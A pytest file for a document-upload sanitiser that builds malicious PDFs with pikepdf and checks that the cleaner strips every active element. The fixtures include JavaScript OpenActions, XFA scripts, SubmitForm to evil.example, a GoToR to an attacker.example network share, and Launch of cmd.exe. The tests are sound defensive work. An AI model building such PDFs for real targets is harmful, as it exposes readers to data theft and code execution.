"""Issue 23, item 3: a stored PDF keeps its pages and nothing that acts.

Before, a denylist (JavaScript, launch, embedded files) let through JavaScript in an
XFA form, a GoToR to a network share, SubmitForm, ImportData, a URI OpenAction and
page /AA actions. Now each upload is rebuilt from its pages (uploads.clean_pdf): every
hostile kind below is made with pikepdf, cleaned, and read back by pikepdf and pypdf.
"""

from __future__ import annotations

import io

import pikepdf
import pytest
from fpdf import FPDF
from pypdf import PdfReader

from directory.uploads import UploadError, check_document, clean_pdf

from .test_upload_limits import storage

PAYLOAD = "app.alert('pwned')"
ACTIVE = {
    "/A", "/AA", "/OpenAction", "/JS", "/JavaScript", "/AcroForm", "/XFA", "/EmbeddedFiles", "/EmbeddedFile",
    "/Annots", "/URI", "/Names", "/Outlines", "/F",
}  # fmt: skip


def plain_pdf(pages: int = 2) -> bytes:
    """A plain certificate with text on each page, as "print to PDF" makes one."""
    pdf = FPDF()
    pdf.set_font("helvetica", size=14)
    for n in range(pages):
        pdf.add_page()
        pdf.cell(text=f"Certificate of completion, page {n + 1}")
    return bytes(pdf.output())


def hostile(change) -> bytes:
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def action(kind: str, **entries) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **entries)


def xfa_script(pdf):
    xfa = pdf.make_stream(f'<xdp:xdp><template><script contentType="application/x-javascript">{PAYLOAD}</script>'
                          "</template></xdp:xdp>".encode())  # fmt: skip
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa))


def link(pdf, act):
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 600, 800], A=act)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))


def widget_with_submit(pdf):
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T=pikepdf.String("send"),
        Rect=[10, 10, 100, 40], A=action("/SubmitForm", F=pikepdf.String("https://evil.example/collect")),
    )  # fmt: skip
    field = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def embedded(pdf):
    pdf.attachments["run.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + PAYLOAD.encode())


def names_javascript(pdf):
    js = pdf.make_indirect(action("/JavaScript", JS=pikepdf.String(PAYLOAD)))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), js]))


def outline_uri(pdf):
    item = pdf.make_indirect(
        pikepdf.Dictionary(Title=pikepdf.String("Open"), A=action("/URI", URI="https://evil.example"))
    )
    pdf.Root.Outlines = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    )


HOSTILE = {
    "xfa-javascript": xfa_script,
    "gotor-network-share": lambda pdf: link(
        pdf,
        action("/GoToR", F=pikepdf.String(r"\\attacker.example\share\x.pdf"), D=pikepdf.Array([0, pikepdf.Name.Fit])),
    ),
    "submitform-widget": widget_with_submit,
    "submitform-openaction": lambda pdf: setattr(
        pdf.Root, "OpenAction", action("/SubmitForm", F=pikepdf.String("https://evil.example/collect"))
    ),
    "importdata": lambda pdf: setattr(pdf.Root, "OpenAction", action("/ImportData", F=pikepdf.String("data.fdf"))),
    "uri-openaction": lambda pdf: setattr(
        pdf.Root, "OpenAction", action("/URI", URI=pikepdf.String("https://evil.example"))
    ),
    "javascript-openaction": lambda pdf: setattr(
        pdf.Root, "OpenAction", action("/JavaScript", JS=pikepdf.String(PAYLOAD))
    ),
    "catalog-aa": lambda pdf: setattr(
        pdf.Root, "AA", pikepdf.Dictionary(WC=action("/JavaScript", JS=pikepdf.String(PAYLOAD)))
    ),
    "page-aa": lambda pdf: setattr(
        pdf.pages[1].obj,
        "AA",
        pikepdf.Dictionary(
            O=action("/JavaScript", JS=pikepdf.String(PAYLOAD)), C=action("/Launch", F=pikepdf.String("calc.exe"))
        ),
    ),
    "launch-link": lambda pdf: link(pdf, action("/Launch", F=pikepdf.String("cmd.exe"))),
    "embedded-file": embedded,
    "names-javascript": names_javascript,
    "outline-uri": outline_uri,
}


def everything_in(data: bytes) -> tuple[set[str], bytes]:
    """Every key and name reachable from the trailer, and every stream's decoded bytes, as pypdf reads them."""
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject, StreamObject

    keys: set[str] = set()
    streams = b""
    seen: set[tuple[int, int]] = set()
    stack: list = [PdfReader(io.BytesIO(data)).trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if (item.idnum, item.generation) in seen:
                continue
            seen.add((item.idnum, item.generation))
            item = item.get_object()
        if isinstance(item, StreamObject):
            streams += item.get_data()
        if isinstance(item, DictionaryObject):
            keys |= set(item)
            stack.extend(item.values())
        elif isinstance(item, ArrayObject):
            stack.extend(item)
        elif isinstance(item, NameObject):
            keys.add(str(item))
    return keys, streams


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_each_kind_of_active_content_is_left_behind(kind):
    data = hostile(HOSTILE[kind])
    keys, _ = everything_in(data)
    assert keys & (ACTIVE | {"/GoToR", "/SubmitForm", "/ImportData", "/Launch"})  # the attack is really there
    checked = check_document(storage(data, "certificate.pdf"))
    keys, streams = everything_in(checked.data)
    assert not keys & ACTIVE, keys & ACTIVE
    assert not keys & {"/GoToR", "/SubmitForm", "/ImportData", "/Launch", "/JavaScript"}
    assert PAYLOAD.encode() not in streams and b"MZ\x90" not in streams
    reader = PdfReader(io.BytesIO(checked.data))  # and it still opens, with its pages and words
    assert len(reader.pages) == 2
    assert "Certificate of completion, page 2" in reader.pages[1].extract_text()


def test_a_plain_pdf_still_passes_and_opens():
    data = plain_pdf(pages=3)
    checked = check_document(storage(data, "license.pdf"))
    assert checked.content_type == "application/pdf" and checked.extension == "pdf"
    reader = PdfReader(io.BytesIO(checked.data))
    assert [p.extract_text() for p in reader.pages] == [p.extract_text() for p in PdfReader(io.BytesIO(data)).pages]
    assert reader.pages[0].mediabox == PdfReader(io.BytesIO(data)).pages[0].mediabox


def test_what_a_filled_form_shows_is_kept_as_page_content():
    def filled(pdf):
        appearance = pdf.make_stream(b"BT /Helv 12 Tf 2 4 Td (Jane Example, LMT 4471) Tj ET")
        appearance.Type, appearance.Subtype, appearance.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 300, 20]
        appearance.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)))  # fmt: skip
        field = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
            V=pikepdf.String("Jane Example, LMT 4471"), Rect=[50, 600, 350, 620], AP=pikepdf.Dictionary(N=appearance),
            F=4,
        ))  # fmt: skip
        pdf.pages[0].obj.Annots = pikepdf.Array([field])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    cleaned = clean_pdf(hostile(filled))
    keys, _ = everything_in(cleaned)
    assert not keys & {"/AcroForm", "/Annots"}
    assert "Jane Example, LMT 4471" in PdfReader(io.BytesIO(cleaned)).pages[0].extract_text()


def test_a_pdf_that_cannot_be_read_is_refused_with_a_clear_message():
    with pytest.raises(UploadError, match="could not be read"):
        clean_pdf(b"%PDF-1.7\n" + b"garbage " * 200 + b"\n%%EOF\n")
